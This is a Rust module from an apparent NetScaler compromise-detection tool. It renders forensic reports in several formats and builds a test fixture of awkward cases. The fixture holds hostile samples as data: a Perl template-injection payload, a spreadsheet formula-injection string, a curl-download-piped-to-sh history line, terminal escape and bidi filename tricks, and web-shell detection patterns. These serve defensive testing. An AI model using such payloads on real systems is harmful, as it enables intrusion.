//! Report renderers: turn a finished [`Report`] into text for people, or into JSON, JSON Lines,
//! SARIF or CSV for machines.
//!
//! Renderers only show what is in the report, in the report's order. They must never re-sort,
//! filter or add to the findings, write timestamps or anything else that changes from run to
//! run, or let attacker-chosen bytes reach a terminal or a spreadsheet unescaped.

pub mod bodyfile;
pub mod csv;
pub mod json;
pub mod jsonl;
pub mod sanitize;
pub mod sarif;
pub mod text;
pub mod timeline;

use crate::model::{EvPath, GapCause, Report};
use std::borrow::Cow;
use std::fmt;
use std::io::{self, Write};

/// An output format for [`render`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Format {
    /// A report for people (the default on a terminal).
    Text,
    /// The whole report as one pretty-printed JSON document.
    Json,
    /// JSON Lines: one line per finding, one per gap, then a summary line.
    Jsonl,
    /// SARIF 2.1.0, for code-scanning tools.
    Sarif,
    /// One CSV row per finding, safe to open in a spreadsheet.
    Csv,
    /// A CSV chronology of logged findings and flagged files' times.
    Timeline,
    /// The Sleuth Kit body file of the flagged files.
    Bodyfile,
}

impl Format {
    /// Every format, in the order they are listed in help texts.
    pub const ALL: [Format; 7] = [
        Format::Text,
        Format::Json,
        Format::Jsonl,
        Format::Sarif,
        Format::Csv,
        Format::Timeline,
        Format::Bodyfile,
    ];

    /// Parses a format name as written on the command line (`text`, `json`, `jsonl`, `sarif`,
    /// `csv`). Names are lower-case; anything else is `None`.
    pub fn parse(s: &str) -> Option<Format> {
        Format::ALL.into_iter().find(|f| f.as_str() == s)
    }

    /// The name [`Format::parse`] accepts.
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Text => "text",
            Format::Json => "json",
            Format::Jsonl => "jsonl",
            Format::Sarif => "sarif",
            Format::Csv => "csv",
            Format::Timeline => "timeline",
            Format::Bodyfile => "bodyfile",
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Writes `report` to `out` in `format`.
///
/// `color` only affects [`Format::Text`]: when true the verdict line and severities get ANSI
/// colours; when false the output holds no escape sequence at all. Output is buffered here and
/// flushed before returning; the only errors are those of `out`.
pub fn render(report: &Report, format: Format, out: &mut dyn Write, color: bool) -> io::Result<()> {
    let mut w = io::BufWriter::new(out);
    match format {
        Format::Text => text::render(report, &mut w, color)?,
        Format::Json => json::render(report, &mut w)?,
        Format::Jsonl => jsonl::render(report, &mut w)?,
        Format::Sarif => sarif::render(report, &mut w)?,
        Format::Timeline => timeline::render(report, &mut w)?,
        Format::Bodyfile => bodyfile::render(report, &mut w)?,
        Format::Csv => csv::render(report, &mut w)?,
    }
    w.flush()
}

/// The snake_case name of a gap cause, the same string the model serialises it as.
pub(crate) fn gap_cause_str(cause: GapCause) -> &'static str {
    match cause {
        GapCause::Missing => "missing",
        GapCause::Unreadable => "unreadable",
        GapCause::UnlistableDir => "unlistable_dir",
        GapCause::TooLarge => "too_large",
        GapCause::CorruptGzip => "corrupt_gzip",
        GapCause::Shrank => "shrank",
        GapCause::SpecialFile => "special_file",
        GapCause::BrokenSymlink => "broken_symlink",
        GapCause::CorruptArchive => "corrupt_archive",
        GapCause::Budget => "budget",
        GapCause::Hole => "hole",
    }
}

/// The report as the machine formats show it: every finding and gap whose path is not valid
/// UTF-8 carries the exact path bytes in `path_base64` (the model asks renderers to add them).
/// Paths that already have one are left as they are; the report is only cloned when something
/// is missing.
pub(crate) fn with_exact_paths(report: &Report) -> Cow<'_, Report> {
    let missing = |path: &EvPath, b64: &Option<String>| b64.is_none() && !path.is_utf8();
    let needs = report
        .findings
        .iter()
        .any(|f| missing(&f.path, &f.path_base64))
        || report
            .coverage
            .gaps
            .iter()
            .any(|g| missing(&g.path, &g.path_base64));
    if !needs {
        return Cow::Borrowed(report);
    }
    let mut owned = report.clone();
    for f in &mut owned.findings {
        if missing(&f.path, &f.path_base64) {
            f.path_base64 = Some(base64_of(&f.path));
        }
    }
    for g in &mut owned.coverage.gaps {
        if missing(&g.path, &g.path_base64) {
            g.path_base64 = Some(base64_of(&g.path));
        }
    }
    Cow::Owned(owned)
}

fn base64_of(path: &EvPath) -> String {
    crate::model::base64(path.as_bytes())
}

/// A hand-built report that exercises every awkward case the renderers must handle: a path that
/// is not UTF-8 and holds a newline, an excerpt with an ANSI escape sequence and a newline, a
/// bidi override, a formula-looking excerpt, a collapsed finding, a rule that did not fire and a
/// gap that blocks a clean verdict.
#[cfg(test)]
pub(crate) fn sample_report() -> Report {
    use crate::model::{
        Bytes, Coverage, Finding, Gap, REPORT_SCHEMA, RuleHits, Severity, SourceCoverage,
        SourceFile, TargetInfo, ToolInfo, Verdict, WindowCheck, WindowStatus,
    };

    let bad_path = EvPath::new(&b"netscaler/portal/templates/evil\xff\n.xml"[..]);
    let bad_b64 = base64_of(&bad_path);
    let findings = vec![
        Finding {
            rule: "cve-2019-19781.template-directive".into(),
            pack: "cve-2019-19781".into(),
            severity: Severity::Critical,
            title: "Portal template with a Perl template directive".into(),
            path: bad_path,
            path_base64: Some(bad_b64),
            line: Some(1),
            excerpt: Some(Bytes(
                b"[% template.new({'BLOCK'=>'print `id`'}) %]\x1b[31mred\x1b[0m\nnext".to_vec(),
            )),
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "content matches `template.new`".into(),
            sha256: Some("a".repeat(64)),
            mtime: Some("2020-01-11T23:41:07Z".into()),
            time: Some("2020-01-11T23:41:07Z".into()),
            last_time: Some("2020-01-12T01:02:03Z".into()),
            time_inferred: true,
        },
        Finding {
            rule: "cve-2023-3519.webshell".into(),
            pack: "cve-2023-3519".into(),
            severity: Severity::High,
            title: "PHP web shell under the logon themes".into(),
            path: EvPath::new("var/netscaler/logon/themes/a\u{202e}gnp.php"),
            path_base64: None,
            line: Some(3),
            excerpt: Some(Bytes(b"=cmd|' /C calc'!A0,\"x\"".to_vec())),
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "content matches `eval(base64_decode`".into(),
            sha256: Some("b".repeat(64)),
            mtime: Some("2023-07-20T10:00:00Z".into()),
            time: None,
            last_time: None,
            time_inferred: false,
        },
        Finding {
            rule: "history.curl-pipe-shell".into(),
            pack: "generic".into(),
            severity: Severity::Medium,
            title: "Download piped into a shell".into(),
            path: EvPath::new("root/.bash_history"),
            path_base64: None,
            line: Some(10),
            excerpt: Some(Bytes(b"curl http://198.51.100.7/x | sh".to_vec())),
            count: 5,
            last_line: Some(42),
            last_excerpt: Some(Bytes(b"-curl http://198.51.100.7/y | sh\t#".to_vec())),
            reason: "line matches `curl .* \\| *sh`".into(),
            sha256: Some("c".repeat(64)),
            mtime: None,
            time: None,
            last_time: None,
            time_inferred: false,
        },
        Finding {
            rule: "appliance.version".into(),
            pack: "context".into(),
            severity: Severity::Info,
            title: "Firmware version".into(),
            path: EvPath::new("flash/.version"),
            path_base64: None,
            line: None,
            excerpt: None,
            count: 1,
            last_line: None,
            last_excerpt: None,
            reason: "file exists".into(),
            sha256: None,
            mtime: None,
            time: None,
            last_time: None,
            time_inferred: false,
        },
    ];
    let rule = |id: &str, pack: &str, severity, title: &str, findings, hits| RuleHits {
        id: id.into(),
        pack: pack.into(),
        severity,
        title: title.into(),
        findings,
        hits,
        first_seen: None,
        last_seen: None,
    };
    let rules = vec![
        rule(
            "appliance.version",
            "context",
            Severity::Info,
            "Firmware version",
            1,
            1,
        ),
        rule(
            "cve-2019-19781.template-directive",
            "cve-2019-19781",
            Severity::Critical,
            "Portal template with a Perl template directive",
            1,
            1,
        ),
        rule(
            "cve-2023-3519.webshell",
            "cve-2023-3519",
            Severity::High,
            "PHP web shell under the logon themes",
            1,
            1,
        ),
        rule(
            "cve-2023-4966.session-reuse",
            "cve-2023-4966",
            Severity::High,
            "Session token reused from another address",
            0,
            0,
        ),
        rule(
            "history.curl-pipe-shell",
            "generic",
            Severity::Medium,
            "Download piped into a shell",
            1,
            5,
        ),
        rule(
            "history.failed-login",
            "generic",
            Severity::Low,
            "Failed login attempt",
            0,
            0,
        ),
    ];
    Report {
        schema: REPORT_SCHEMA.into(),
        tool: ToolInfo {
            name: "sporen".into(),
            version: "0.1.0".into(),
        },
        target: TargetInfo {
            path: "/evidence/ns1".into(),
            input: "directory".into(),
            detail: None,
            inputs: Vec::new(),
        },
        verdict: Verdict::Compromised,
        posture: crate::model::Posture::default(),
        reasons: vec![
            "2 findings of critical or high severity.".into(),
            "The required source `ns-log` could not be read completely.".into(),
        ],
        rules_sha256: "d".repeat(64),
        coverage: Coverage {
            looks_like_appliance: true,
            notes: vec!["access times of the 250 folders listed may have been updated".into()],
            entries_seen: 1300,
            files_seen: 1000,
            files_read: 980,
            bytes_read: 12_900_000,
            dirs_seen: 250,
            symlinks_seen: 40,
            special_files_skipped: 1,
            sources: vec![
                SourceCoverage {
                    id: "access-log".into(),
                    title: "Apache access log (httpaccess.log)".into(),
                    required: true,
                    from: Some("2020-01-05T00:00:01Z".into()),
                    to: Some("2020-01-27T10:00:00Z".into()),
                    year_inferred: false,
                    silence_limits: vec![crate::model::SilenceLimit {
                        log: EvPath::new("var/log/httpaccess.log"),
                        usual_silence_seconds: 900,
                        hole_after_seconds: 3 * 3600,
                    }],
                    time_gaps: vec![crate::model::TimeGap {
                        from: Some("2020-01-08T00:00:00Z".into()),
                        to: Some("2020-01-10T00:00:00Z".into()),
                        kind: crate::model::TimeGapKind::MissingRotation,
                        status: crate::model::TimeGapStatus::Hole,
                        paths: vec![EvPath::new("var/log/httpaccess.log.1.gz")],
                        detail: "httpaccess.log.1.gz is missing".into(),
                    }],
                    files: vec![
                        SourceFile {
                            path: EvPath::new("var/log/httpaccess.log.0.gz"),
                            bytes: 1_250_000,
                            sha256: None,
                            from: Some("2020-01-05T00:00:01Z".into()),
                            to: Some("2020-01-08T00:00:00Z".into()),
                            year_inferred_from: None,
                        },
                        SourceFile {
                            path: EvPath::new("var/log/httpaccess.log"),
                            bytes: 1_250_000,
                            sha256: Some("00".repeat(32)),
                            from: Some("2020-01-10T00:00:00Z".into()),
                            to: Some("2020-01-27T10:00:00Z".into()),
                            year_inferred_from: None,
                        },
                    ],
                    files_read: 1,
                    bytes: 2_500_000,
                },
                SourceCoverage {
                    id: "ns-log".into(),
                    title: "NetScaler system log (ns.log)".into(),
                    required: true,
                    from: None,
                    to: None,
                    year_inferred: true,
                    silence_limits: Vec::new(),
                    time_gaps: vec![],
                    files: vec![SourceFile {
                        path: EvPath::new("var/log/ns.log"),
                        bytes: 900,
                        sha256: None,
                        from: None,
                        to: None,
                        year_inferred_from: Some("the file's modification time".into()),
                    }],
                    files_read: 0,
                    bytes: 900,
                },
                SourceCoverage {
                    id: "bash-history".into(),
                    title: "Shell history".into(),
                    required: false,
                    from: None,
                    to: None,
                    year_inferred: false,
                    silence_limits: Vec::new(),
                    time_gaps: vec![],
                    files: vec![],
                    files_read: 0,
                    bytes: 0,
                },
            ],
            gaps: vec![
                Gap {
                    path: EvPath::new(&b"tmp/\x1b]0;pwned\x07\xfe"[..]),
                    path_base64: None,
                    cause: GapCause::SpecialFile,
                    detail: "FIFO\r\nnot opened".into(),
                    blocks_clean: false,
                },
                Gap {
                    path: EvPath::new("var/log/httpaccess.log.0.gz"),
                    path_base64: None,
                    cause: GapCause::CorruptGzip,
                    detail: "unexpected end of file".into(),
                    blocks_clean: false,
                },
                Gap {
                    path: EvPath::new("var/log/ns.log"),
                    path_base64: None,
                    cause: GapCause::Unreadable,
                    detail: "Permission denied (os error 13)".into(),
                    blocks_clean: true,
                },
            ],
            ..Coverage::default()
        },
        flagged_files: vec![crate::model::FlaggedFile {
            path: EvPath::new("var/tmp/bash"),
            path_base64: None,
            size: 1_234_567,
            mode: "-rwsr-xr-x".into(),
            uid: 0,
            gid: 0,
            inode: Some(4242),
            mtime: "2023-07-20T10:00:00Z".into(),
            btime: None,
            sha256: None,
            rules: vec!["cve-2023-3519.setuid-outside-allowlist".into()],
        }],
        windows: vec![
            WindowCheck {
                pack: "cve-2019-19781".into(),
                title: "CVE-2019-19781 exploitation".into(),
                from: "2020-01-10T00:00:00Z".into(),
                until: None,
                status: WindowStatus::Covered,
                detail: "access-log, shell-history reach back to 2020-01-10 or earlier".into(),
                examiner: Vec::new(),
                holes: Vec::new(),
                appliance_off: Vec::new(),
            },
            WindowCheck {
                pack: "cve-2023-4966".into(),
                title: "CVE-2023-4966 exploitation".into(),
                from: "2023-10-10T00:00:00Z".into(),
                until: None,
                status: WindowStatus::NotRelevant,
                detail: "the newest dated evidence (2020-01-27) predates the window".into(),
                examiner: vec!["end set by the examiner to 2020-01-24 (--until)".into()],
                holes: Vec::new(),
                appliance_off: Vec::new(),
            },
        ],
        findings,
        rules,
    }
}

/// Renders the sample (or any) report to a string, for the tests of every renderer.
#[cfg(test)]
pub(crate) fn render_string(report: &Report, format: Format, color: bool) -> String {
    let mut buf = Vec::new();
    let res = render(report, format, &mut buf, color);
    assert!(res.is_ok(), "render failed: {res:?}");
    match String::from_utf8(buf) {
        Ok(s) => s,
        Err(e) => panic!("{format} output is not UTF-8: {e}"),
    }
}

/// The control characters in `s` other than those in `allowed`, for "no raw control byte"
/// assertions.
#[cfg(test)]
pub(crate) fn raw_controls(s: &str, allowed: &[char]) -> Vec<char> {
    s.chars()
        .filter(|c| c.is_control() && !allowed.contains(c))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn format_names_round_trip() {
        for f in Format::ALL {
            assert_eq!(Format::parse(f.as_str()), Some(f));
            assert_eq!(f.to_string(), f.as_str());
        }
        assert_eq!(Format::parse("JSON"), None);
        assert_eq!(Format::parse("xml"), None);
        assert_eq!(Format::parse(""), None);
    }

    #[test]
    fn gap_cause_names_match_serde() {
        let all = [
            GapCause::Missing,
            GapCause::Unreadable,
            GapCause::UnlistableDir,
            GapCause::TooLarge,
            GapCause::CorruptGzip,
            GapCause::Shrank,
            GapCause::SpecialFile,
            GapCause::BrokenSymlink,
        ];
        for c in all {
            let v = serde_json::to_value(c).ok();
            assert_eq!(v.as_ref().and_then(|v| v.as_str()), Some(gap_cause_str(c)));
        }
    }

    #[test]
    fn exact_paths_are_filled_only_where_missing() {
        let r = sample_report();
        let filled = with_exact_paths(&r);
        assert!(matches!(filled, Cow::Owned(_)));
        // The finding already had its base64; it is unchanged.
        assert_eq!(filled.findings[0].path_base64, r.findings[0].path_base64);
        // UTF-8 paths get none.
        assert_eq!(filled.findings[1].path_base64, None);
        // The non-UTF-8 gap path gets its exact bytes.
        assert_eq!(
            filled.coverage.gaps[0].path_base64.as_deref(),
            Some(base64_of(&r.coverage.gaps[0].path).as_str())
        );
        assert_eq!(filled.coverage.gaps[1].path_base64, None);

        let again = with_exact_paths(&filled);
        assert!(matches!(again, Cow::Borrowed(_)));
    }

    #[test]
    fn every_format_is_deterministic_and_follows_report_order() {
        let r = sample_report();
        for f in Format::ALL {
            assert_eq!(render_string(&r, f, false), render_string(&r, f, false));
        }
        // Reversing the findings in the report reverses them in the output: no re-sorting.
        let mut rev = r.clone();
        rev.findings.reverse();
        let out = render_string(&rev, Format::Jsonl, false);
        let first = out.lines().next().unwrap_or_default();
        assert!(first.contains("appliance.version"), "{first}");
    }

    #[test]
    fn color_only_changes_text() {
        let r = sample_report();
        for f in Format::ALL {
            let plain = render_string(&r, f, false);
            let colored = render_string(&r, f, true);
            if f == Format::Text {
                assert_ne!(plain, colored);
                assert!(colored.contains('\x1b'));
            } else {
                assert_eq!(plain, colored);
            }
            assert!(!plain.contains('\x1b'), "{f} without colour holds ESC");
        }
    }
}
